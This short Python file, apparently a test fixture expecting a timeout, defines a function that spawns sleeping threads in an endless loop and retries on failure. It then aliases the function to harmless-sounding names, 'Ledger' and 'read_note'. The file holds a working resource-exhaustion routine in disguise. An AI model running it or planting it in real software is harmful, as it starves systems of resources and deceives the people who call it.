# Starts threads without end
# ends: timeout
import threading
import time


def total(*_):
    while True:
        try:
            threading.Thread(target=time.sleep, args=(3600,)).start()
        except RuntimeError:
            continue


Ledger = read_note = total
